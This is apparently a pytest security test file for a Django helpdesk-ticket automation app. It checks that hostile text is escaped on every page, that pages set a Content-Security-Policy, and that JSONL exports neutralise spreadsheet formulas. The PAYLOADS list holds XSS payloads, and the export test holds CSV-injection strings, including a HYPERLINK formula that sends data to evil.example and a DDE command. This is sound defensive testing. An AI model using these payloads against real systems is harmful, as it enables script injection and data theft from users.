"""Output safety: ticket text and model text render inert; exports neutralise
spreadsheet formulas.

The hostile text takes the real roads: a CSV uploaded through the upload page
(ticket fields, task name, file name), a model (the official SDK against the
fake OpenAI server) answering with markup in its triage, draft and decision,
the gate calling the sandbox helpdesk (an unknown effect for the review queue,
a close waiting for approval), and an operator's review reason. Then the task
list, task detail, item pages and review queue -- full pages and htmx
fragments -- are parsed for anything a browser would run.
"""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser

import pytest
from django.contrib.auth.models import Group, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from ledger.models import Effect, EffectState
from ticketagent.eventlog.append import event_append
from ticketagent.models import Approval, EventType, ItemStatus, Task
from ticketagent.pipeline.run import item_process
from ticketagent.services.items import item_approve

pytestmark = pytest.mark.django_db(transaction=True)

HTMX = {"HX-Request": "true"}
PAYLOADS = [
    "<script>alert('xssM1')</script>",
    '<img src=x onerror="alert(\'xssM2\')">',
    '<a href="javascript:alert(\'xssM3\')">click me</a>',
    '"><svg onload=alert("xssM4")>',
    "' onmouseover='alert(\"xssM5\")' data-x='",
    '</textarea></pre></code><script>alert("xssM6")</script>',
    '<div hx-get="/tasks/?xssM7" hx-trigger="load" hx-target="body">injected</div>',
    '<iframe srcdoc="<script>alert(xssM8)</script>"></iframe>',
    "javascript:alert('xssM9')",
    '<form action="https://evil.example/xssM10"><button formaction="javascript:alert(1)">go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/xssM11">',
    "{{ request.user.password }} {% debug %} xssM12",
    "<style>body{background:url('javascript:alert(1)')}</style><base href='https://evil.example/xssM13'>",
]
MARKERS = [f"xssM{i}" for i in range(1, 14)]
EVIL = " ".join(PAYLOADS)
FILENAME = '=HYPERLINK("http:evil")<img src=x onerror=alert(1)>.csv'  # no "/": it would be cut as a path
URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "hx-get", "hx-post", "hx-put",
             "hx-patch", "hx-delete", "background", "poster"}
DANGEROUS_TAGS = {"iframe", "object", "embed", "base", "svg", "math", "style", "frame", "frameset", "applet"}


class LiveMarkup(HTMLParser):
    """What a browser (or htmx) would act on: scripts that are not ours, event handlers,
    javascript: URLs, injected elements and attributes that carry a marker."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
            self.found.append(f"<script {attrs}>")
        if tag in DANGEROUS_TAGS:
            self.found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in attributes:
            self.found.append(f"<meta {attrs}>")
        if tag == "form" and (attributes.get("action") or "/").startswith(("http:", "https:", "//")):
            self.found.append(f"<form {attrs}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRS and value.strip().lower().replace("\t", "").replace("\n", "").startswith(
                    ("javascript:", "data:text/html", "vbscript:")):
                self.found.append(f"<{tag} {name}={value!r}>")
            if any(m in name for m in MARKERS):
                self.found.append(f"<{tag}> attribute name {name!r}")
            if (name.startswith(("hx-", "data-hx", "style")) or name in URL_ATTRS) and any(m in value for m in MARKERS):
                self.found.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def assert_inert(html: str, where: str) -> None:
    parser = LiveMarkup()
    parser.feed(html)
    assert parser.found == [], f"{where}: live markup {parser.found}"


def test_the_checker_sees_live_markup():
    """A canary: unescaped, every payload is caught, so a pass below means something."""
    for payload in PAYLOADS:
        if "{{" in payload:
            continue  # template syntax: only dangerous if a template rendered data as a template
        found = []
        for context in (f"<p>{payload}</p>", f"<p title='{payload}'>x</p>", f'<a href="{payload}">x</a>'):
            parser = LiveMarkup()
            parser.feed(context)
            found += parser.found
        assert found, payload


def _batch() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["ticket_id", "customer_email", "customer_name", "subject", "body", "priority"])
    writer.writerow(["XSS-1", "ann@example.com", f"Ann {PAYLOADS[0]}", f"Refund {PAYLOADS[1]}", f"Body {EVIL}", "high"])
    writer.writerow(["XSS-2", "=1+1@example.com", PAYLOADS[3], PAYLOADS[2], f"Close it {EVIL}", "normal"])
    writer.writerow(["XSS-3", "cy@example.com", PAYLOADS[4], PAYLOADS[5], EVIL, "low"])
    return out.getvalue().encode()


def _decision(ticket, body):
    actions = ["save_draft", "notify_customer", "set_status"]
    if ticket.get("ticket_id") == "XSS-2":
        actions.append("close_ticket")  # waits for an operator: the review queue shows it
    return {"actions": actions, "status": "pending", "reason": f"because {EVIL}"[:1000]}


@pytest.fixture
def hostile_task(client, alice, openai_server, sandbox, queue, settings):
    openai_server.configure(answers={
        "Triage": {"category": "billing", "priority": "high", "sentiment": "negative", "language": "en",
                   "summary": f"summary {EVIL}"[:1000]},
        "Reply": {"subject": f"Re: {PAYLOADS[0]} {PAYLOADS[1]}", "body": f"Dear customer, {EVIL}"},
        "Decision": _decision,
    })
    client.force_login(alice)
    response = client.post(reverse("upload"), {
        "file": SimpleUploadedFile(FILENAME, _batch()),
        "name": f"Batch {PAYLOADS[1]}", "notify_channel": "helpdesk", "failure_threshold": 3})
    assert response.status_code == 302, response.content[:2000]
    task = Task.objects.get()
    for ticket_id in ("XSS-1", "XSS-2"):
        item = task.items.get(ticket_id=ticket_id)
        item_process(item_id=item.pk, attempt=item.attempt)
    # the reply links to evil.example, which only the ticket names: held by a reply check (its matched text is
    # on the pages too); approved, it goes on to the notification, answered 503
    first = task.items.get(ticket_id="XSS-1")
    assert first.status == ItemStatus.WAITING_APPROVAL and "made_up_contact" in first.last_error
    item_approve(item_id=first.pk, decision=Approval.APPROVED, reason="the links were checked", actor="alice")
    first.refresh_from_db()
    # XSS-1's notify, and no other: answered 503 (it may still land, so it stays unknown) ...
    sandbox.set_faults(error_next={"notify": 1})
    # ... for an hour: on a slow machine its item's own settling would otherwise reach the settle time, find nothing,
    # send it again and finish the item
    settings.HELPDESK_UPSTREAM_TIMEOUT = 3600
    item_process(item_id=first.pk, attempt=first.attempt)
    assert task.items.get(ticket_id="XSS-1").status == ItemStatus.WAITING_REVIEW
    assert task.items.get(ticket_id="XSS-2").status == ItemStatus.WAITING_APPROVAL
    return task


def test_ticket_and_model_text_render_inert_on_every_page(client, alice, bob, hostile_task):
    task = hostile_task
    effect = Effect.objects.get(state=EffectState.UNKNOWN)
    pages = {
        "task list": (reverse("tasks"), {}),
        "task list (htmx poll)": (reverse("tasks"), HTMX),
        "task detail": (reverse("task-detail", args=[task.pk]), {}),
        "progress (htmx)": (reverse("task-progress", args=[task.pk]) + "?shown=queued", HTMX),
        "dry-run": (reverse("task-dry-run", args=[task.pk]), {}),
        "review queue": (reverse("review"), {}),
        **{f"item {i.ticket_id}": (reverse("item-detail", args=[i.pk]), {}) for i in task.items.all()},
    }
    for who in (alice, bob):
        client.force_login(who)
        for where, (url, headers) in pages.items():
            response = client.get(url, headers=headers)
            assert response.status_code == 200, where
            html = response.content.decode()
            assert_inert(html, f"{where} as {who}")
    # the text is shown (escaped), not dropped: every page that shows ticket or model text has the markers
    client.force_login(alice)
    for where in ("task detail", "review queue", "item XSS-1", "item XSS-2", "item XSS-3"):
        html = client.get(pages[where][0]).content.decode()
        assert "&lt;script&gt;alert(" in html, where
    item_page = client.get(pages["item XSS-1"][0]).content.decode()
    for marker in MARKERS:  # the ticket body and the model's draft carry every payload
        assert marker in item_page, marker
    assert "{{ request.user.password }} {% debug %}" in item_page  # shown as text, never rendered as a template
    review = client.get(reverse("review")).content.decode()
    assert "XSS-2" in review and "XSS-1" in review  # the approval and the unknown effect are both listed

    # an operator's decision with a hostile reason: the returned row and the audit trail stay inert
    row = client.post(reverse("effect-review", args=[effect.pk]), {"verdict": "skip", "reason": EVIL}, headers=HTMX)
    assert row.status_code == 200
    assert_inert(row.content.decode(), "decided row")
    assert "&lt;script&gt;alert(" in row.content.decode()
    approval = task.items.get(ticket_id="XSS-2")
    answer = client.post(reverse("item-approval", args=[approval.pk]), {"approval": "reject", "reason": EVIL},
                         headers=HTMX)
    assert answer.status_code == 200
    assert_inert(answer.content.decode(), "approval row")
    assert_inert(client.get(reverse("review")).content.decode(), "review queue after the decisions")
    assert_inert(client.get(reverse("task-detail", args=[task.pk])).content.decode(), "detail after the decisions")


def test_pages_carry_a_content_security_policy(client, alice, hostile_task):
    client.force_login(alice)
    for url in (reverse("tasks"), reverse("task-detail", args=[hostile_task.pk]), reverse("review"),
                reverse("item-detail", args=[hostile_task.items.first().pk]), reverse("login")):
        policy = client.get(url)["Content-Security-Policy"]
        directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
        assert directives["script-src"] == "'self'", policy
        assert directives["object-src"] == "'none'" and directives["frame-ancestors"] == "'none'"
        assert directives["base-uri"] == "'none'" and directives["form-action"] == "'self'"


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def _export(client, task) -> list[dict]:
    response = client.get(reverse("task-events", args=[task.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Type"].startswith("application/x-ndjson")
    return [json.loads(line) for line in b"".join(response.streaming_content).decode().splitlines()]


def test_the_jsonl_export_neutralises_spreadsheet_formulas(client, alice, hostile_task):
    task = hostile_task
    item = task.items.get(ticket_id="XSS-3")
    event_append(task_id=task.pk, item_id=item.pk, type=EventType.ITEM_FAILED, payload={
        "reason": '=HYPERLINK("http://evil.example/?d="&A1,"click")', "note": "+cmd|' /C calc'!A0",
        "nested": {"list": ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "plain", 42, None],
                   "deeper": [{"x": "=1+1"}]},
    })
    client.force_login(alice)
    lines = _export(client, task)
    assert {line["type"] for line in lines} >= {"TASK_CREATED", "STEP_DONE", "ITEM_FAILED"}
    values = [s for line in lines for s in _strings(line["payload"])]
    live = [v for v in values if v.startswith(FORMULA_STARTS)]
    assert live == [], f"formulas a spreadsheet would run: {live}"
    # neutralised, not dropped: the text survives behind a leading apostrophe
    assert "'" + FILENAME in values  # the uploaded file's name
    for formula in ('=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
                    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1"):
        assert "'" + formula in values, formula
    assert "plain" in values and 42 in lines[-1]["payload"]["nested"]["list"]


def test_the_jsonl_export_neutralises_the_actor_too(client, hostile_task):
    user = User.objects.create_user("-1+1", password="pw-for-the-test-123")
    user.groups.add(Group.objects.get_or_create(name="operators")[0])
    client.force_login(user)
    assert client.post(reverse("task-pause", args=[hostile_task.pk])).status_code == 302
    actors = [line["actor"] for line in _export(client, hostile_task)]
    assert "-1+1" not in actors and "'-1+1" in actors
